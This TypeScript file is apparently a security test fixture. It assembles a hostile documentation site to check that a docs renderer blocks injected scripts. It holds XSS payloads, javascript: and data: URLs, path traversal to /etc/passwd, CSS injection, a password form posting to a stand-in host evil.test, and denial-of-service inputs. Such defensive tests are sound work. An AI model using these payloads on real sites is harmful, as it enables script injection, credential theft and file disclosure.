/** What an attacker would write: every way in that a docs project has. Each `pwn()` that runs is found by the tests. */
const addresses = [
	'javascript:pwn()',
	'JaVaScRiPt:pwn()',
	'java\tscript:pwn()',
	' javascript:pwn()',
	'data:text/html,<script>pwn()</script>',
	'vbscript:pwn()',
	'//evil.test/x',
	'https://evil.test/x',
	'/../../../../etc/passwd',
	'..%2f..%2f..%2fetc/passwd',
	'file:///etc/passwd',
	'"><img src=x onerror=pwn()>',
	"';pwn();'",
];
const markup =
	'<img src=x onerror=pwn()><script>pwn()</script><svg onload=pwn()><style>*{background:url(https://evil.test/s)}</style>';
const evilSvg =
	'<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwn()"><script>parent.pwn()</script><image href="https://evil.test/i"/></svg>';

const config = {
	name: markup,
	logo: { light: '/evil.svg', dark: addresses[8], href: addresses[0] },
	favicon: addresses[8],
	colors: {
		primary: '#fff;}*{background:url(https://evil.test/c)}',
		light: 'red',
		background: { light: markup },
	},
	backgroundImage: addresses[9],
	versions: [markup, 'v1'],
	topbarLinks: addresses.map((url) => ({ name: markup, url })),
	topbarCtaButton: { type: 'github', url: addresses[0] },
	tabs: addresses.map((url) => ({ name: markup, url, icon: url })),
	anchors: addresses.map((url) => ({ name: markup, url, icon: url, color: { from: markup, to: url } })),
	navigation: [
		{ group: markup, icon: addresses[8], pages: [...addresses, 'page', { group: markup, pages: ['index'] }] },
	],
	feedback: { suggestEdit: true, raiseIssue: true },
	footerSocials: Object.fromEntries(addresses.map((url, index) => [index === 0 ? markup : `x${index}`, url])),
	footer: { links: [{ title: markup, links: addresses.map((url) => ({ label: markup, url })) }] },
	modeToggle: { default: markup },
	banner: {
		content: `${markup} ${addresses.map((address) => `[x](<${address}>)`).join(' ')} {pwn()}`,
		color: { light: '#fff;}*{background:url(https://evil.test/b)}', dark: markup },
		dismissible: true,
	},
};

const bomb = `${'['.repeat(3_000)}1${']'.repeat(3_000)}`;
const page = `---
title: ${JSON.stringify(`href="/~page/${encodeURIComponent(markup)}" ${markup}`)}
description: ${JSON.stringify(markup)}
icon: ${JSON.stringify(addresses[8])}
tag: ${JSON.stringify(markup)}
mode: ${JSON.stringify(markup)}
---

import Evil from '../../../etc/passwd'
import Code from '/evil.jsx'
export const x = (() => { pwn(); })()

${markup}

{(() => { pwn(); return 'ran' })()}
{\`\${pwn()}\`}
{[].constructor.constructor('pwn()')()}
{${bomb}}
{'a'.repeat(1e9)}

<Evil />
<Code />

<Card title={pwn()} href={"javascript:" + "pwn()"} icon="../../../etc/passwd" img="/evil.svg" onClick={() => pwn()}>x</Card>
<div style={{ background: 'url(https://evil.test/d)' }} onMouseOver={pwn} dangerouslySetInnerHTML={{ __html: '<script>pwn()</script>' }}>hover</div>
<iframe src="javascript:parent.pwn()" srcDoc="<script>parent.pwn()</script>" />
<iframe src="https://evil.test/frame" />
<object data="/evil.svg" /><embed src="/evil.svg" />
<svg><use href="/evil.svg#x" /><script>pwn()</script><foreignObject><body onload="pwn()" /></foreignObject></svg>
<form action="https://evil.test/steal"><input type="password" name="p" autoFocus onFocus="pwn()" /></form>
<meta httpEquiv="refresh" content="0;url=https://evil.test/refresh" />
<link rel="stylesheet" href="https://evil.test/style.css" />
<base href="https://evil.test/" />
![x](https://evil.test/track.png) ![x](/evil.svg) ![x](../../../../etc/passwd)

${addresses.map((address) => `<a href=${JSON.stringify(address)}>x</a>\n\n[x](<${address}>)`).join('\n\n')}

$\\href{javascript:pwn()}{x}$
`;

export const hostileSite: Readonly<Record<string, string>> = {
	'docs.json': JSON.stringify(config),
	'page.mdx': page,
	'index.mdx': '---\ntitle: Index\n---\n\nText.\n',
	'evil.svg': evilSvg,
	'evil.jsx': 'pwn(); export default () => { pwn(); }',
};
